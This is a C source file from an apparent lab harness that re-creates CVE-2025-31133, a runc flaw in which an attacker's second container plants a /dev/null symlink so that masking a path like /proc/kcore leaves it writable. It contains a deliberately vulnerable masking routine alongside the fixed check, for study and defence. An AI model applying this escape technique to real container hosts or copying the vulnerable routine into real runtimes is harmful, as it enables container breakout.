/*
 * CVE-2025-31133 re-creation: a runtime that masks files by bind-mounting the container's
 * "/dev/null" over them, trusting whatever /dev/null is (runc before 1.2.8 / 1.3.3 / 1.4.0-rc.3:
 * maskPath did mount("/dev/null", path, MS_BIND) after the root switch, following symlinks, and
 * ignored ENOENT). The container's /dev is a bind mount of a volume shared with another container
 * of the attacker's, which has made `null` a symlink to the masked path itself: the "mask" becomes
 * a bind of the masked file over itself and the file stays writable.
 *
 *   manager [--masked-path-check] ROOTFS_A ROOTFS_B SHARED CONTROL MASKED
 * ROOTFS_A: the attacker's other container, with the shared volume SHARED at /shared; it plants
 *   SHARED/null -> MASKED and exits.
 * ROOTFS_B: the victim container, with SHARED at /dev and MASKED (/proc/kcore, or /proc/timer_list
 *   on a kernel without kcore; both in runc's default masked paths) in its
 *   masked paths. CONTROL, a host file (the stand-in for the host-global file the mask exists to
 *   hide), is bind-mounted at MASKED first, where the kernel would show the real one; the
 *   container then writes through MASKED.
 * --masked-path-check is the fixed behaviour (runc commit 8476df83): open /dev/null once, verify it
 * is the 1:3 character device, refuse to start otherwise.
 */
#define _GNU_SOURCE
#include "bwlab.h"

#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

/* Where the shared volume waits between the two hooks: a bind from a host path after the root
   switch (through a descriptor opened before it) failed with EINVAL on the kernel tested, so
   park and move. */
#define STAGE_DEV "/.bw-shared"

struct scenario {
  const char *shared, *control, *masked;
  int check;
};

static int stage(const char *rootfs, const char *src, const char *name) {
  char dst[4096];
  snprintf(dst, sizeof dst, "%s%s", rootfs, name);
  if (bw_mkdirs(dst, 0755) != 0) return -1;
  if (mount(src, dst, NULL, MS_BIND, NULL) != 0) {
    perror("bind into the rootfs");
    return -1;
  }
  return 0;
}

static int unstage(const char *name, const char *to) {
  if (mount(name, to, NULL, MS_MOVE, NULL) != 0) {
    fprintf(stderr, "move %s to %s: %s\n", name, to, strerror(errno));
    return -1;
  }
  if (rmdir(name) != 0) {
    perror(name);
    return -1;
  }
  return 0;
}

/* ---- container A: the attacker's other container, the shared volume at /shared ---------------- */

static int a_before_root(void *arg, const char *rootfs) {
  struct scenario *s = arg;
  char dst[4096];
  snprintf(dst, sizeof dst, "%s/shared", rootfs);
  if (bw_mkdirs(dst, 0755) != 0) return -1;
  if (mount(s->shared, dst, NULL, MS_BIND, NULL) != 0) {
    perror("bind the shared volume at /shared");
    return -1;
  }
  return 0;
}

/* ---- container B: the victim, the shared volume at /dev, MASKED in its masked paths ----------- */

/* Before the root switch, host paths in reach. procfs is mounted here (as bwlab would: not through
   a symlink), so that the stand-in host file can be bound at MASKED by its host path: lab plumbing
   that a management profile's rule about mounts onto masked paths does not see as one. */
static int b_before_root(void *arg, const char *rootfs) {
  struct scenario *s = arg;
  char proc[4096], target[4200];
  snprintf(proc, sizeof proc, "%s/proc", rootfs);
  struct stat st;
  if (lstat(proc, &st) != 0 || !S_ISDIR(st.st_mode)) {
    fprintf(stderr, "%s: not a directory\n", proc);
    return -1;
  }
  if (mount("proc", proc, "proc", MS_NOSUID | MS_NOEXEC | MS_NODEV, NULL) != 0) {
    perror("mount proc");
    return -1;
  }
  /* Lab plumbing: the stand-in host file where the kernel shows the real one. */
  snprintf(target, sizeof target, "%s%s", rootfs, s->masked);
  if (mount(s->control, target, NULL, MS_BIND, NULL) != 0) {
    fprintf(stderr, "bind the stand-in host file at %s: %s\n", s->masked, strerror(errno));
    return -1;
  }
  /* The shared volume, parked until /dev exists (bwlab mounts a tmpfs there after this hook). */
  return stage(rootfs, s->shared, STAGE_DEV);
}

/* runc's maskPath before the fix: bind "/dev/null" (path lookup, symlinks followed) over the path;
   a missing source or path is silently skipped; a directory gets a read-only tmpfs. */
static int vulnerable_mask(const char *path) {
  char what[4200] = "the null device";
  struct stat st;
  if (lstat("/dev/null", &st) == 0 && S_ISLNK(st.st_mode)) {
    char target[4096];
    ssize_t n = readlink("/dev/null", target, sizeof target - 1);
    target[n > 0 ? n : 0] = 0;
    snprintf(what, sizeof what, "/dev/null is a symlink to %s", target);
  } else if (lstat("/dev/null", &st) == 0 && !(S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3))) {
    snprintf(what, sizeof what, "/dev/null is not the null device");
  }
  char step[4200];
  snprintf(step, sizeof step, "mask %s: bind /dev/null over it", path);
  if (mount("/dev/null", path, NULL, MS_BIND, NULL) != 0) {
    int e = errno;
    if (e == ENOENT) {
      bw_step(step, 1, 0, "ENOENT ignored: left unmasked");
      return 0;
    }
    if (e == ENOTDIR) {
      if (mount("tmpfs", path, "tmpfs", MS_RDONLY, NULL) != 0) {
        bw_step(step, 0, errno, "read-only tmpfs on a directory");
        return -1;
      }
      bw_step(step, 1, 0, "read-only tmpfs on a directory");
      return 0;
    }
    bw_step(step, 0, e, what);
    return -1;
  }
  bw_step(step, 1, 0, what);
  return 0;
}

/* The fixed maskPaths (runc 1.2.8): /dev/null opened once with O_PATH and verified 1:3 before use. */
static int fixed_mask(const char *path) {
  int null = open("/dev/null", O_PATH | O_CLOEXEC);
  struct stat st;
  if (null < 0 || fstat(null, &st) != 0) {
    bw_step("fixed runtime: verify /dev/null before masking", 0, errno, "");
    return -1;
  }
  if (!S_ISCHR(st.st_mode) || st.st_rdev != makedev(1, 3)) {
    close(null);
    bw_step("fixed runtime: verify /dev/null before masking", 0, EPERM, "the container's /dev/null is invalid: refused");
    return -1;
  }
  char src[64];
  snprintf(src, sizeof src, "/proc/self/fd/%d", null);
  int rc = mount(src, path, NULL, MS_BIND, NULL);
  int e = errno;
  close(null);
  if (rc != 0 && e != ENOENT) {
    bw_step("fixed runtime: mask with the verified /dev/null", 0, e, path);
    return -1;
  }
  bw_step("fixed runtime: mask with the verified /dev/null", 1, 0, path);
  return 0;
}

/* After the root switch, /proc, /dev and bwlab's own masked paths: the shared volume becomes /dev
   (a config mount, done by runc before the masking), then the masking. */
static int b_before_defence(void *arg) {
  struct scenario *s = arg;
  if (unstage(STAGE_DEV, "/dev") != 0) {
    bw_step("mount the shared volume at /dev", 0, errno, "");
    return -1;
  }
  bw_step("mount the shared volume at /dev", 1, 0, "");
  return s->check ? fixed_mask(s->masked) : vulnerable_mask(s->masked);
}

/* The colon-separated list without `path` (NULL when nothing is left). */
static char *drop_path(const char *list, const char *path) {
  if (!list) return NULL;
  char *copy = strdup(list), *out = calloc(1, strlen(list) + 1), *save = NULL;
  if (!copy || !out) {
    perror("strdup");
    exit(125);
  }
  for (char *p = strtok_r(copy, ":", &save); p; p = strtok_r(NULL, ":", &save)) {
    if (strcmp(p, path) == 0) continue;
    if (*out) strcat(out, ":");
    strcat(out, p);
  }
  free(copy);
  if (!*out) {
    free(out);
    return NULL;
  }
  return out;
}

static unsigned chown_base;
static int chown_one(const char *path, const struct stat *st, int type, struct FTW *ftw) {
  (void)st;
  (void)type;
  (void)ftw;
  if (lchown(path, chown_base, chown_base) != 0) {
    perror(path);
    return -1;
  }
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  int i = 1;
  struct scenario s = {0};
  if (i < argc && strcmp(argv[i], "--masked-path-check") == 0) {
    s.check = 1;
    i++;
  }
  if (argc - i != 5 || argv[i + 4][0] != '/') {
    fprintf(stderr, "usage: manager [--masked-path-check] ROOTFS_A ROOTFS_B SHARED CONTROL /MASKED\n");
    return 2;
  }
  const char *rootfs_a = argv[i], *rootfs_b = argv[i + 1];
  s.shared = argv[i + 2];
  s.control = argv[i + 3];
  s.masked = argv[i + 4];
  struct bw_defence d;
  bw_defence_from_env(&d);
  if (d.userns) {
    /* The engine creates the volume owned by the containers' (remapped) root, as Docker's
       userns-remap does. The host file stays the host's. */
    chown_base = d.userns_base;
    if (nftw(s.shared, chown_one, 16, FTW_PHYS) != 0) return 125;
  }

  /* Container A plants the symlink in the shared volume. */
  char *const aargv[] = {"/attack", "prepare", (char *)s.masked, NULL};
  struct bw_container_opts a = {.rootfs = rootfs_a, .argv = aargv, .before_root = a_before_root, .arg = &s};
  pid_t pa = bw_container_start(&d, &a);
  if (pa < 0) {
    bw_step("start the attacker's other container", 0, errno, rootfs_a);
    return 125;
  }
  int st = bw_wait(pa, 5);
  if (st != 0) {
    bw_step("the attacker's other container planted its symlink", 0, st == 125 ? EPERM : EIO, "");
    return 0;
  }

  /* Container B: the victim, set up by the vulnerable masking. MASKED is masked by the re-created
     (vulnerable) step only: drop it from the defence's masked paths, which bwlab masks the fixed
     way (the same runtime does not mask a path twice). */
  struct bw_defence db = d;
  db.masked = drop_path(d.masked, s.masked);
  char *const bargv[] = {"/attack", "write", (char *)s.masked, NULL};
  struct bw_container_opts b = {.rootfs = rootfs_b,
                                .argv = bargv,
                                .before_root = b_before_root,
                                .before_defence = b_before_defence,
                                .arg = &s,
                                .proc_done_by_hook = 1};
  pid_t pb = bw_container_start(&db, &b);
  if (pb < 0) {
    bw_step("start the container", 0, errno, rootfs_b);
    return 125;
  }
  st = bw_wait(pb, 5);
  if (st == 125) bw_step("start the container", 0, EPERM, "the runtime refused to start it (see the steps above)");
  return 0;
}
